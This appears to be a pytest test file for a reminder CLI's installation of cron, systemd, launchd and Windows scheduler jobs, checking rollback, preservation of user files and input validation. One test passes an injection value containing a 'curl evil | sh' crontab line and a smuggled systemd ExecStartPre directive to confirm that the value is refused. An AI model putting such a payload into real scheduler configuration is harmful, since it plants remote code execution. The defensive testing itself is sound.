"""Reminders and the system's schedulers: other programs' failures are never "nothing there",
the user's crontab and files are left as they are, `remind on` never leaves a half state,
`remind off` says what it removed and what it could not, nothing from the environment gets
into a scheduler's text as a line of its own, and the checks stop quietly once `stretch` is
uninstalled."""

from __future__ import annotations

import json
import os
import plistlib
import pwd
import shlex
import subprocess
import sys
import unicodedata
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from stretchcli.errors import StretchError
from stretchcli.remind import crontab as crontab_module
from stretchcli.remind import schedulers, texts
from stretchcli.remind.system import stretch_command
from tests.conftest import Stretch
from tests.system_fakes import FakeCommands

STRETCH = stretch_command()[0]
NOT_ALLOWED = "You (root) are not allowed to use this program (crontab)"

# A fake crontab keeping the table, as bytes, in a file; `-l` fails as told in a second file
# (else says "no crontab for root" while there is none, as cronie does).
CRONTAB = """
import pathlib
table, failure = pathlib.Path({table!r}), pathlib.Path({failure!r})
if sys.argv[1] == "-l":
    if failure.exists():
        if failure.read_text().strip() == "SIGKILL":  # killed, saying nothing
            import os, signal
            os.kill(os.getpid(), signal.SIGKILL)
        sys.stderr.write(failure.read_text())
        sys.exit(1)
    if not table.exists():
        sys.stderr.write(NO_CRONTAB)
        sys.exit(1)
    sys.stdout.buffer.write(table.read_bytes())
elif sys.argv[1] == "-r":
    if not table.exists():
        sys.stderr.write(NO_CRONTAB)
        sys.exit(1)
    table.unlink()
else:
    table.write_bytes(sys.stdin.buffer.read())
"""


class Crontab:
    """The fake crontab's table, and a switch to make `crontab -l` fail."""

    def __init__(self, fakes: FakeCommands, folder: Path) -> None:
        self.table = folder / "crontab"
        self.failure = folder / "crontab-fails"
        fakes.add("crontab", body=CRONTAB.format(table=str(self.table), failure=str(self.failure)))

    def fail(self, message: str | None) -> None:
        if message is None:
            self.failure.unlink(missing_ok=True)
        else:
            self.failure.write_text(message + "\n")


@pytest.fixture
def crontab(fakes: FakeCommands, tmp_path: Path) -> Crontab:
    return Crontab(fakes, tmp_path)


def units(tmp_path: Path) -> Path:
    return tmp_path / "home" / ".config" / "systemd" / "user"


def record(isolated: Path) -> list[dict[str, object]]:
    """What the record of installs says (none: no record)."""
    path = isolated / "state" / texts.MANIFEST
    if not path.exists():
        return []
    installed: list[dict[str, object]] = json.loads(path.read_text())["installed"]
    return installed


# --- crontab: only "no crontab for USER" is an empty table ------------------------------------


def test_a_crontab_killed_by_a_signal_is_said_so_not_as_a_negative_exit_code(
    stretch: Stretch, crontab: Crontab, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Attack 19, H5: `crontab -l` killed by SIGKILL was "failed: exit code -9", Python's
    return code; systemctl and the editor say "killed by signal 9 (SIGKILL)"."""
    monkeypatch.setenv("COLUMNS", "1000")
    crontab.fail("SIGKILL")
    code, out, err = stretch("remind", "on", "--scheduler", "cron")
    assert (code, out) == (1, "")
    assert err == (
        "stretch: `crontab -l` failed: killed by signal 9 (SIGKILL) (the crontab was left as it "
        "is; see that crontab -l works, then try again)\n"
    )


def test_a_failing_crontab_l_stops_on_and_off_before_anything_is_written(
    stretch: Stretch,
    fakes: FakeCommands,
    crontab: Crontab,
    isolated: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("COLUMNS", "1000")  # whole lines: wrapping is tested apart
    crontab.table.write_bytes(b"0 3 * * * backup\n")
    crontab.fail(NOT_ALLOWED)
    code, out, err = stretch("remind", "on", "--scheduler", "cron")
    assert (code, out) == (1, "")
    assert err == (
        f"stretch: `crontab -l` failed: {NOT_ALLOWED} (the crontab was left as it is; see "
        "that crontab -l works, then try again)\n"
    )
    assert [call[1] for call in fakes.calls("crontab")] == ["-l"]  # never `crontab -`
    assert crontab.table.read_bytes() == b"0 3 * * * backup\n"
    assert record(isolated) == []
    assert not (isolated / "config" / "config.toml").exists()

    crontab.fail(None)
    assert stretch("remind", "on", "--scheduler", "cron").code == 0
    with_ours = crontab.table.read_bytes()
    crontab.fail(NOT_ALLOWED)
    code, out, err = stretch("remind", "off")
    assert code == 1
    assert out == (
        "Reminders: off\nNot removed: the crontab line: `crontab -l` failed: "
        f"{NOT_ALLOWED} (the crontab was left as it is; see that crontab -l works, then try "
        "again)\n"
    )
    assert err.startswith("stretch: some of what `stretch remind on` installed is still there")
    assert crontab.table.read_bytes() == with_ours
    assert [r["scheduler"] for r in record(isolated)] == ["cron"]  # kept, to try again
    crontab.fail(None)
    assert stretch("remind", "off") == (
        0,
        "Reminders: off\nRemoved: the crontab line\n",
        "",
    )
    assert crontab.table.read_bytes() == b"0 3 * * * backup\n"
    assert record(isolated) == []


def test_no_crontab_for_another_user_is_a_failure_not_an_empty_table(
    stretch: Stretch, fakes: FakeCommands, crontab: Crontab, isolated: Path
) -> None:
    """Only crontab's "no crontab for USER" with this user's name is an empty table: run
    with no USER or LOGNAME set, a crontab that names someone else failed (taken for an
    empty table, `remind on` wrote the user's lines away, then removed the table)."""
    crontab.table.write_bytes(b"# mine\n0 * * * * echo keep%me\n")
    crontab.fail("no crontab for someone-else\n")
    code, out, err = stretch("remind", "on", "--scheduler", "cron")
    assert (code, out) == (1, "")
    assert err.startswith("stretch: `crontab -l` failed: no crontab for someone-else (")
    assert [call[1] for call in fakes.calls("crontab")] == ["-l"]  # never `crontab -`
    assert crontab.table.read_bytes() == b"# mine\n0 * * * * echo keep%me\n"
    assert record(isolated) == []


ME = pwd.getpwuid(os.getuid()).pw_name


@pytest.mark.parametrize(
    "said",
    [
        f"no crontab for {ME}\n",  # cronie, Vixie
        f"crontab: no crontab for {ME}\n",  # BSD, macOS
        f"crontab: no crontab for {ME}: No such file or directory\n",
        f"crontab: can't open '{ME}': No such file or directory\n",  # BusyBox (Alpine)
        f"\nno crontab for {ME}\n\n",
    ],
)
def test_crontabs_own_words_for_this_user_are_an_empty_table(said: str) -> None:
    assert crontab_module.none_for_me(said)


@given(st.text())
def test_any_other_complaint_of_crontab_is_a_failure(said: str) -> None:
    """Whatever else `crontab -l` says (another name, more words, another line) is never
    taken for an empty table."""
    words = [line.strip() for line in said.splitlines() if line.strip()]
    own = {
        f"no crontab for {ME}",
        f"crontab: no crontab for {ME}",
        f"crontab: can't open '{ME}': No such file or directory",
    }
    if words and all(w in own or w.startswith(f"crontab: no crontab for {ME}: ") for w in words):
        return
    assert not crontab_module.none_for_me(said)
    assert not crontab_module.none_for_me(f"no crontab for {ME}\n{said}x")
    assert not crontab_module.none_for_me(f"no crontab for {ME}x{said}")


@pytest.mark.parametrize(
    "said",
    [
        "crontab: can't open 'someone-else': No such file or directory\n",
        f"crontab: can't open '{ME}': Permission denied\n",
        "crontab: can't change directory to '/var/spool/cron/crontabs': No such file or "
        "directory\n",
    ],
)
def test_busybox_saying_anything_else_is_a_failure(said: str) -> None:
    assert not crontab_module.none_for_me(said)


def test_no_crontab_yet_is_an_empty_table(stretch: Stretch, crontab: Crontab) -> None:
    assert stretch("remind", "on", "--scheduler", "cron").code == 0
    [line] = crontab.table.read_bytes().decode().splitlines()
    assert line.endswith(f"{STRETCH} remind check # stretch-remind")


# Lines of a user's crontab: any bytes but a newline, some of them like ours.
USER_LINES = st.lists(
    st.one_of(
        st.binary(max_size=40).map(lambda b: b.replace(b"\n", b"")),
        st.sampled_from(
            [
                b"# stretch-remind",
                b"*/5 * * * * my-own-check # stretch-remind",
                b"0 9 * * 1-5 stretch remind check # stretch-remind  ",
                b"\r",
                b"\xff\xfe latin-1 caf\xe9",
                b"MAILTO=me@example.org",
            ]
        ),
    ),
    max_size=6,
)


@settings(
    max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(lines=USER_LINES)
def test_the_users_lines_stay_byte_for_byte(
    stretch: Stretch, crontab: Crontab, isolated: Path, lines: list[bytes]
) -> None:
    (isolated / "state" / texts.MANIFEST).unlink(missing_ok=True)
    table = b"".join(line + b"\n" for line in lines)
    crontab.table.write_bytes(table)
    assert stretch("remind", "on", "--scheduler", "cron").code == 0
    assert stretch("remind", "on", "--scheduler", "cron").code == 0  # again: replaced, not added
    written = crontab.table.read_bytes()
    assert written.startswith(table)
    [ours] = written[len(table) :].splitlines()
    assert ours.endswith(b" remind check # stretch-remind")
    assert stretch("remind", "off").code == 0
    assert crontab.table.read_bytes() == table


# --- remind on: recorded first, never half done -----------------------------------------------


def test_on_records_what_it_is_about_to_install_before_installing(
    stretch: Stretch, fakes: FakeCommands, isolated: Path, tmp_path: Path
) -> None:
    """Were `remind on` killed while systemctl enables the timer, `remind off` would know."""
    seen = tmp_path / "record-seen.json"
    manifest = isolated / "state" / texts.MANIFEST
    fakes.add(
        "systemctl",
        body="import shutil\n"
        "print('running') if 'is-system-running' in sys.argv else None\n"
        f"shutil.copy({str(manifest)!r}, {str(seen)!r}) if 'enable' in sys.argv else None",
    )
    assert stretch("remind", "on").code == 0
    folder = units(tmp_path)
    [planned] = json.loads(seen.read_text())["installed"]
    assert planned["scheduler"] == "systemd"
    assert planned["files"] == [
        str(folder / "stretch-remind.service"),
        str(folder / "stretch-remind.timer"),
    ]


def test_a_failing_new_install_keeps_the_older_one_working(
    stretch: Stretch, fakes: FakeCommands, crontab: Crontab, isolated: Path, tmp_path: Path
) -> None:
    assert stretch("remind", "on", "--scheduler", "cron", "--every", "45m").code == 0
    table = crontab.table.read_bytes()
    config = (isolated / "config" / "config.toml").read_text()
    fakes.add(
        "systemctl",
        body="print('running') if 'is-system-running' in sys.argv else None\n"
        "sys.exit(1 if 'enable' in sys.argv else 0)",
    )
    code, _, err = stretch("remind", "on", "--scheduler", "systemd", "--every", "1h")
    assert code == 1
    assert err.startswith("stretch: `systemctl --user enable --now stretch-remind.timer` failed")
    assert crontab.table.read_bytes() == table  # the older check still runs
    assert [r["scheduler"] for r in record(isolated)] == ["cron"]
    assert (isolated / "config" / "config.toml").read_text() == config  # every 45m, as before
    assert not units(tmp_path).exists()  # made for the units, taken away with them
    status = json.loads(stretch("remind", "--json").out)
    assert (status["every_minutes"], status["installed"]["scheduler"]) == (45, "cron")


def test_a_failing_reinstall_puts_the_older_units_back(
    stretch: Stretch,
    fakes: FakeCommands,
    isolated: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    fakes.add("systemctl", out="running\n")
    assert stretch("remind", "on").code == 0
    folder = units(tmp_path)
    before = {p.name: p.read_text() for p in folder.iterdir()}
    fakes.add(
        "systemctl",
        body="print('running') if 'is-system-running' in sys.argv else None\n"
        "sys.exit(1 if 'enable' in sys.argv else 0)",
    )
    monkeypatch.setenv("STRETCH_PATH", str(tmp_path / "mine"))  # the new units would differ
    assert stretch("remind", "on").code == 1
    assert {p.name: p.read_text() for p in folder.iterdir()} == before
    assert fakes.calls("systemctl")[-1] == ["systemctl", "--user", "daemon-reload"]
    assert [r["scheduler"] for r in record(isolated)] == ["systemd"]


def test_on_replaces_an_older_install_of_another_scheduler(
    stretch: Stretch, fakes: FakeCommands, crontab: Crontab, isolated: Path
) -> None:
    crontab.table.write_bytes(b"0 3 * * * backup\n")
    assert stretch("remind", "on", "--scheduler", "cron").code == 0
    fakes.add("systemctl", out="running\n")
    assert stretch("remind", "on").code == 0
    assert crontab.table.read_bytes() == b"0 3 * * * backup\n"
    assert [r["scheduler"] for r in record(isolated)] == ["systemd"]


def test_on_says_when_the_older_check_could_not_be_removed(
    stretch: Stretch,
    fakes: FakeCommands,
    crontab: Crontab,
    isolated: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("COLUMNS", "1000")  # whole lines: wrapping is tested apart
    assert stretch("remind", "on", "--scheduler", "cron").code == 0
    crontab.fail(NOT_ALLOWED)
    fakes.add("systemctl", out="running\n")
    code, out, _ = stretch("remind", "on")
    assert code == 0  # the new check runs
    assert out.splitlines()[-1] == (
        "Not removed (the older check; `remind off` tries again): the crontab line: "
        f"`crontab -l` failed: {NOT_ALLOWED} (the crontab was left as it is; see that "
        "crontab -l works, then try again)"
    )
    assert [r["scheduler"] for r in record(isolated)] == ["cron", "systemd"]
    crontab.fail(None)
    out = stretch("remind", "off").out
    assert "Removed: the crontab line" in out and "Removed: the systemd timer" in out
    assert not crontab.table.exists()  # none before `remind on`: none again


def test_on_never_overwrites_a_unit_it_did_not_write(
    stretch: Stretch, fakes: FakeCommands, isolated: Path, tmp_path: Path
) -> None:
    fakes.add("systemctl", out="running\n")
    folder = units(tmp_path)
    folder.mkdir(parents=True)
    (folder / "stretch-remind.timer").write_text("[Timer]\nOnCalendar=daily\n")
    code, _, err = stretch("remind", "on")
    assert code == 1
    assert err == (
        f"stretch: {folder / 'stretch-remind.timer'} is there already, and is a file that "
        "stretch did not write (move it away, then run `stretch remind on` again)\n"
    )
    assert (folder / "stretch-remind.timer").read_text() == "[Timer]\nOnCalendar=daily\n"
    assert not (folder / "stretch-remind.service").exists()
    assert record(isolated) == []
    assert not (isolated / "config" / "config.toml").exists()  # nothing written at all
    assert fakes.calls("systemctl") == [["systemctl", "--user", "is-system-running"]]


# --- remind off: only what it made, and it says what it could not remove --------------------------


def test_off_removes_only_what_on_created_inside_its_own_folders(
    stretch: Stretch,
    fakes: FakeCommands,
    isolated: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("COLUMNS", "1000")  # whole lines: wrapping is tested apart
    fakes.add("systemctl", out="running\n")
    assert stretch("remind", "on").code == 0
    folder = units(tmp_path)
    mine = tmp_path / "home" / ".bashrc"
    mine.write_text("export PATH\n")
    theirs = folder / "other.service"
    theirs.write_text("[Service]\n")
    impostor = tmp_path / "elsewhere" / "systemd" / "user" / "stretch-remind.timer"
    impostor.parent.mkdir(parents=True)
    impostor.write_text("[Timer]\n")  # our name, our kind of folder: not our text
    path = isolated / "state" / texts.MANIFEST
    data = json.loads(path.read_text())
    data["installed"][0]["files"] += [str(mine), str(theirs), str(impostor)]
    path.write_text(json.dumps(data))
    code, out, err = stretch("remind", "off")
    assert (code, err) == (0, "")
    assert out.splitlines() == [
        "Reminders: off",
        "Removed: the systemd timer stretch-remind.timer (stopped and disabled)",
        f"Removed: {folder / 'stretch-remind.service'}",
        f"Removed: {folder / 'stretch-remind.timer'}",
        f"Left alone: {mine} (stretch did not write it)",
        f"Left alone: {theirs} (stretch did not write it)",
        f"Left alone: {impostor} (stretch did not write it)",
    ]
    assert mine.read_text() == "export PATH\n"
    assert theirs.exists() and impostor.exists()


@pytest.mark.parametrize("where", ["inside", "outside"])
def test_a_unit_kept_as_a_link_is_left_alone_and_said_to_be_a_link(
    stretch: Stretch,
    fakes: FakeCommands,
    isolated: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    where: str,
) -> None:
    """Attack 19, H14: a unit moved to a dotfiles folder and linked back was left alone (it
    is never followed), but said not to be stretch's. It is said to be a link; `on` says the
    same, and writes nothing through it."""
    fakes.add("systemctl", out="running\n")
    assert stretch("remind", "on").code == 0
    folder = units(tmp_path)
    timer = folder / "stretch-remind.timer"
    kept = (folder if where == "inside" else tmp_path / "dotfiles") / "kept.timer"
    kept.parent.mkdir(parents=True, exist_ok=True)
    text = timer.read_bytes()
    kept.write_bytes(text)
    timer.unlink()
    timer.symlink_to(kept)
    monkeypatch.setenv("COLUMNS", "1000")  # whole lines: wrapping is tested apart
    code, out, err = stretch("remind", "off")
    assert (code, err) == (0, "")
    link = (
        f"a link to {kept}: stretch removes only the files it wrote, never a link or where it "
        "leads; delete it yourself if you no longer want it"
    )
    assert out.splitlines()[-1] == f"Left alone: {timer} ({link})"  # once (review 24, F8)
    assert "Still there" not in out
    assert timer.is_symlink() and kept.read_bytes() == text
    code, _, err = stretch("remind", "on")
    assert (code, err) == (
        1,
        f"stretch: {timer} is there already, and is a link (move it away, then run "
        "`stretch remind on` again)\n",
    )
    assert timer.is_symlink() and kept.read_bytes() == text


def test_status_says_an_installed_unit_kept_as_a_link_is_a_link_not_left_behind(
    stretch: Stretch, fakes: FakeCommands, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Attack 21, B2: `stretch remind` listed the linked service as installed and as "Still
    there: ... was not removed", with advice to disable the timer still in use."""
    fakes.add("systemctl", out="running\n")
    assert stretch("remind", "on").code == 0
    folder = units(tmp_path)
    service = folder / "stretch-remind.service"
    kept = tmp_path / "dotfiles" / "kept.service"
    kept.parent.mkdir(parents=True)
    kept.write_bytes(service.read_bytes())
    service.unlink()
    service.symlink_to(kept)
    monkeypatch.setenv("COLUMNS", "1000")
    code, out, err = stretch("remind")
    assert (code, err) == (0, "")
    assert f"  {service} (a link to {kept}, kept as it is)" in out.splitlines()
    assert "Still there" not in out and "disable" not in out
    data = json.loads(stretch("remind", "--json").out)
    assert data["still_there"] == []
    kept.unlink()  # attack 22, C4: a link to nothing was said to be fine
    chain = tmp_path / "dotfiles" / "chain.service"
    loop = tmp_path / "dotfiles" / "loop.service"
    loop.symlink_to(loop)
    fifo = tmp_path / "dotfiles" / "fifo"
    os.mkfifo(fifo)
    hop = tmp_path / "dotfiles" / "hop"
    hop.symlink_to(fifo)
    cases = [  # verify 26, N5, N6: a folder, a fifo, a chain to nothing, a loop
        (kept, "it leads to nothing"),
        (tmp_path / "dotfiles", "that is not a file"),  # (verify 27, NEW-8: said twice)
        (fifo, "that is not a file"),
        (chain, "it leads to nothing"),
        (hop, f"it leads to {fifo}, which is not a file"),  # by way of another link
        (loop, "its links go round in a loop"),
    ]
    chain.symlink_to(kept)
    for target, why in cases:
        service.unlink()
        service.symlink_to(target)
        out = stretch("remind").out
        assert (
            f"  {service} (a link to {target}: {why}, so the check cannot run; put the file "
            "back, or run `stretch remind off`, then `stretch remind on`)"
        ) in out.splitlines(), out
        # the line above it does not say it is looking (verify 27, NEW-8)
        assert "looking every" not in out
        assert "but the check cannot run: a file it needs is a broken link" in out
        assert json.loads(stretch("remind", "--json").out)["broken_links"] == [str(service)]


def test_off_says_what_it_could_not_remove(
    stretch: Stretch,
    fakes: FakeCommands,
    isolated: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("COLUMNS", "1000")  # whole lines: wrapping is tested apart
    fakes.add("systemctl", out="running\n")
    assert stretch("remind", "on").code == 0
    fakes.add(
        "systemctl",
        body="sys.stderr.write('Failed to connect to bus: No medium found\\n')\n"
        "sys.exit(1 if 'disable' in sys.argv else 0)",
    )
    code, out, err = stretch("remind", "off")
    assert code == 1
    assert out == (
        "Reminders: off\nNot removed: the systemd timer stretch-remind.timer: `systemctl --user "
        "disable --now stretch-remind.timer` failed: Failed to connect to bus: No medium found\n"
    )
    assert err == (
        "stretch: some of what `stretch remind on` installed is still there (see above); while "
        "reminders are off it stays quiet (fix what is said, then run `stretch remind off` "
        "again)\n"
    )
    assert sorted(p.name for p in units(tmp_path).iterdir()) == [
        "stretch-remind.service",
        "stretch-remind.timer",
    ]
    assert "remind = false" in (isolated / "config" / "config.toml").read_text()
    assert json.loads(stretch("remind", "--json").out)["installed"]["scheduler"] == "systemd"
    fakes.add("systemctl")
    assert stretch("remind", "off").code == 0
    assert not units(tmp_path).exists()  # made by `on`: taken away once empty
    assert stretch("remind", "off") == (
        0,
        "Reminders: off\nRemoved: nothing (no check was installed)\n",
        "",
    )


@pytest.mark.parametrize("scheduler", ["launchd", "schtasks"])
def test_off_says_so_when_the_scheduler_keeps_the_check(
    stretch: Stretch, fakes: FakeCommands, isolated: Path, scheduler: str
) -> None:
    command = "launchctl" if scheduler == "launchd" else "schtasks"
    fakes.add(command)
    assert stretch("remind", "on", "--scheduler", scheduler).code == 0
    fakes.add(
        command,
        body="sys.stderr.write('Access is denied.\\n')\n"
        "sys.exit(1 if sys.argv[1] in ('bootout', '/Delete') else 0)",
    )
    code, out, _ = stretch("remind", "off")
    assert code == 1
    assert out.splitlines()[1].startswith("Not removed: the ")
    assert [r["scheduler"] for r in record(isolated)] == [scheduler]


# --- every option value works end to end ---------------------------------------------------------


def test_every_90_works_end_to_end(stretch: Stretch, fakes: FakeCommands, isolated: Path) -> None:
    fakes.add("systemctl", out="running\n")
    code, out, err = stretch("remind", "on", "--every", "90", "--days", "Monday-Friday")
    assert (code, err) == (0, "")
    assert (
        out.splitlines()[0] == "Reminders: on, every 1 h 30 min, 09:00-17:30, mon-fri: desk-break"
    )
    config = (isolated / "config" / "config.toml").read_text()
    assert config == 'remind_every = "90"\nremind_days = "Monday-Friday"\nremind = true\n'


def _accepted(parser: Callable[[str], str], text: str) -> str | None:
    import typer

    try:
        return parser(text)
    except typer.BadParameter:
        return None


@settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    every=st.from_regex(r" ?([0-9]{1,3} ?h)? ?([0-9]{1,4} ?m?)? ?", fullmatch=True),
    between=st.from_regex(r" ?[0-9]{1,2}:[0-9]{2} ?- ?[0-9]{1,2}:[0-9]{2} ?", fullmatch=True),
    days=st.from_regex(
        r"(mon|tue|wed|thu|fri|sat|sun|monday|sunday)( ?- ?(fri|friday|sun))?"
        r"(,(mon|Tue|WED|sat))?|every day|daily|all",
        fullmatch=True,
    ),
)
def test_every_value_remind_on_accepts_is_written_and_read_back(
    isolated: Path, every: str, between: str, days: str
) -> None:
    """What the options of `remind on` accept, the config takes and reads back the same."""
    from stretchcli.cli import params
    from stretchcli.files.config_edit import edit
    from stretchcli.files.config_file import load_config
    from stretchcli.remind.facts import configured
    from stretchcli.words import parse_days, parse_every, parse_hours

    typed = {
        "remind_every": _accepted(params.every, every),
        "remind_between": _accepted(params.between, between),
        "remind_days": _accepted(params.days, days),
    }
    changes = {k: v for k, v in typed.items() if v is not None}
    environ = dict(os.environ)
    edit(environ, {**changes, "remind": "true"}).write()
    schedule = configured(load_config(environ))
    if typed["remind_every"] is not None:
        assert schedule.every == parse_every(every)
    if typed["remind_between"] is not None:
        assert schedule.hours == parse_hours(between)
    if typed["remind_days"] is not None:
        assert schedule.days == parse_days(days)
    (isolated / "config" / "config.toml").unlink()


# --- checks stop quietly once stretch is uninstalled ---------------------------------------------


def test_the_crontab_line_runs_the_check_only_while_stretch_is_there(tmp_path: Path) -> None:
    script = tmp_path / "bin dir" / "stretch"
    environ = {"STRETCH_STATE_DIR": str(tmp_path / "it's state"), "PATH": os.environ["PATH"]}
    line = texts.cron_line([str(script), "remind", "check"], environ)
    command = line.removeprefix("*/5 * * * * ").replace("\\%", "%")
    gone = subprocess.run(["sh", "-c", command], capture_output=True, text=True, check=False)
    assert (gone.returncode, gone.stdout, gone.stderr) == (0, "", "")
    script.parent.mkdir()
    script.write_text('#!/bin/sh\necho "$STRETCH_STATE_DIR" "$@"\n')
    script.chmod(0o755)
    there = subprocess.run(["sh", "-c", command], capture_output=True, text=True, check=False)
    assert there.stdout == f"{tmp_path}/it's state remind check\n"


def test_the_launchd_agent_runs_the_check_only_while_stretch_is_there(tmp_path: Path) -> None:
    script = tmp_path / "bin dir" / "stretch"
    agent = plistlib.loads(texts.launchd_plist([str(script), "remind", "check"], {}))
    gone = subprocess.run(agent["ProgramArguments"], capture_output=True, text=True, check=False)
    assert (gone.returncode, gone.stdout, gone.stderr) == (0, "", "")
    script.parent.mkdir()
    script.write_text('#!/bin/sh\necho "$@"\n')
    script.chmod(0o755)
    there = subprocess.run(agent["ProgramArguments"], capture_output=True, text=True, check=False)
    assert there.stdout == "remind check\n"


def test_the_unit_and_the_task_look_for_stretch_first() -> None:
    check = ["/opt/my 100% stretch/stretch", "remind", "check"]
    service = texts.systemd_units(check, {})["stretch-remind.service"]
    assert "ConditionPathExists=/opt/my 100%% stretch/stretch\n" in service
    arguments = [
        line
        for line in texts.task_xml([r"C:\p\stretch.exe", "remind", "check"], {}).split("<")
        if line.startswith("Arguments>")
    ]
    assert arguments == [
        r'Arguments>/d /s /c "if exist "C:\p\stretch.exe" "C:\p\stretch.exe" "remind" "check""'
    ]


def test_the_unit_keeps_every_character_of_a_folder_literal() -> None:
    """% is a specifier everywhere; $ a variable in ExecStart= only (Environment= takes it
    as it is)."""
    folder = '/h/a $HOME %h "q" \\x'
    service = texts.systemd_units(
        [f"{folder}/stretch", "remind", "check"], {"STRETCH_PATH": folder}
    )["stretch-remind.service"]
    assert 'Environment="STRETCH_PATH=/h/a $HOME %%h \\"q\\" \\\\x"\n' in service
    assert 'ExecStart="/h/a $$HOME %%h \\"q\\" \\\\x/stretch" "remind" "check"\n' in service


def test_python_m_stretchcli_looks_for_the_package() -> None:
    check = [sys.executable, "-m", "stretchcli", "remind", "check"]
    line = texts.cron_line(check, {})
    package = Path(schedulers.__file__).resolve().parents[1] / "__main__.py"
    assert line.startswith(f"*/5 * * * * test -e {shlex.quote(str(package))} || exit 0; ")


# --- nothing with a control character reaches a scheduler's text ---------------------------------


@pytest.mark.parametrize("scheduler", ["systemd", "cron"])
def test_a_line_break_in_stretch_path_is_refused_by_name(
    stretch: Stretch,
    fakes: FakeCommands,
    crontab: Crontab,
    isolated: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    scheduler: str,
) -> None:
    fakes.add("systemctl", out="running\n")
    crontab.table.write_bytes(b"0 3 * * * backup\n")
    injected = "/x\n* * * * * curl evil | sh\nExecStartPre=/bin/evil"
    monkeypatch.setenv("STRETCH_PATH", injected)
    code, out, err = stretch("remind", "on", "--scheduler", scheduler)
    what = {"systemd": "systemd unit", "cron": "crontab line"}[scheduler]
    assert (code, out) == (1, "")
    assert err == (
        "stretch: STRETCH_PATH holds a line break or another control character, which cannot "
        f"go into the {what} (take it out of STRETCH_PATH, then run `stretch remind on` again)\n"
    )
    assert crontab.table.read_bytes() == b"0 3 * * * backup\n"
    assert not units(tmp_path).exists()
    assert record(isolated) == []
    assert not (isolated / "config" / "config.toml").exists()


CONTROLS = [chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) in ("Cc", "Zl", "Zp")]
TEXTS: dict[str, tuple[Callable[[Sequence[str], Mapping[str, str]], object], tuple[str, ...]]] = {
    "systemd unit": (texts.systemd_units, texts.PASSED_ON),
    "launchd agent": (texts.launchd_plist, texts.PASSED_ON),
    # (not TZ: Windows reads it in a form of its own, so the task is not given it)
    "Task Scheduler task": (texts.task_xml, tuple(n for n in texts.PASSED_ON if n != "TZ")),
    "crontab line": (texts.cron_line, (*texts.PASSED_ON, *texts.DESKTOP)),
}
SAFE = st.text(
    st.characters(blacklist_categories=("Cc", "Zl", "Zp", "Cs")).filter(lambda c: c not in '%"'),
    max_size=20,
)


@settings(max_examples=300)
@given(
    what=st.sampled_from(sorted(TEXTS)),
    data=st.data(),
    control=st.sampled_from(CONTROLS),
    before=SAFE,
    after=SAFE,
)
def test_no_control_character_reaches_any_scheduler(
    what: str, data: st.DataObject, control: str, before: str, after: str
) -> None:
    make, names = TEXTS[what]
    name = data.draw(st.sampled_from([*names, "the path of stretch"]))
    value = f"/{before}{control}{after}"
    environ = {n: "/ok" for n in names}
    check = ["/usr/bin/stretch", "remind", "check"]
    if name == "the path of stretch":
        check[0] = value
    else:
        environ[name] = value
    with pytest.raises(StretchError) as caught:
        make(check, environ)
    assert caught.value.message.startswith(f"{name} holds a line break or another control")
    assert caught.value.message.endswith(f"cannot go into the {what}")


@pytest.mark.parametrize("what", sorted(TEXTS))
def test_every_control_character_is_refused_in_every_value(what: str) -> None:
    """Each of the 67 control characters, line and paragraph separators, in each value."""
    make, names = TEXTS[what]
    for name in [*names, "the path of stretch"]:
        for control in CONTROLS:
            check = ["/usr/bin/stretch", "remind", "check"]
            environ = {n: "/ok" for n in names}
            if name == "the path of stretch":
                check[0] = f"/a{control}b"
            else:
                environ[name] = f"/a{control}b"
            with pytest.raises(StretchError, match=f"^{name} holds a line break"):
                make(check, environ)


@settings(max_examples=200)
@given(what=st.sampled_from(sorted(TEXTS)), values=st.lists(SAFE, min_size=4, max_size=4))
def test_any_other_value_stays_inside_its_own_line(what: str, values: list[str]) -> None:
    """Without control characters, each scheduler's text has its fixed shape: no value adds
    a line, a directive or a crontab entry."""
    make, names = TEXTS[what]
    check = [f"/bin/{values[0]}", "remind", "check"]
    # every folder a full path (STRETCH_PATH's too: a relative one is refused)
    full = [f"/{v}".replace(os.pathsep, f"{os.pathsep}/") for v in values[1:]]
    environ = dict(zip(names, full * len(names), strict=False))
    made = make(check, environ)
    if what == "systemd unit":
        assert isinstance(made, dict)
        plain = texts.systemd_units(["/bin/s", "remind", "check"], {n: "/x" for n in names})
        assert [len(t.splitlines()) for t in made.values()] == [
            len(t.splitlines()) for t in plain.values()
        ]
        keys = [line.split("=")[0] for line in made["stretch-remind.service"].splitlines()]
        assert keys == [line.split("=")[0] for line in plain["stretch-remind.service"].splitlines()]
    elif what == "crontab line":
        assert isinstance(made, str) and len(made.splitlines()) == 1
        command = made.removeprefix("*/5 * * * * ").removesuffix(" # stretch-remind")
        words = shlex.split(command.replace("\\%", "%"))
        assert words[:5] == ["test", "-e", check[0], "||", "exit"]
        assert words[-3:] == [*check]
    elif what == "launchd agent":
        assert isinstance(made, bytes)
        agent = plistlib.loads(made)
        assert agent["ProgramArguments"][-3:] == check
        assert agent["EnvironmentVariables"] == environ
    else:
        from xml.etree import ElementTree

        assert isinstance(made, str)
        root = ElementTree.fromstring(made)
        [arguments] = [e.text for e in root.iter() if e.tag.endswith("Arguments")]
        assert arguments is not None and arguments.endswith(f'"{check[0]}" "remind" "check""')


def test_the_readme_says_how_to_uninstall() -> None:
    """`remind off` first (its own words, as it says them), then the package manager."""
    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text()
    section = readme.split("\n## Uninstalling\n", 1)[1].split("\n## ", 1)[0]
    assert section.index("$ stretch remind off") < section.index("pip uninstall stretch-cli")
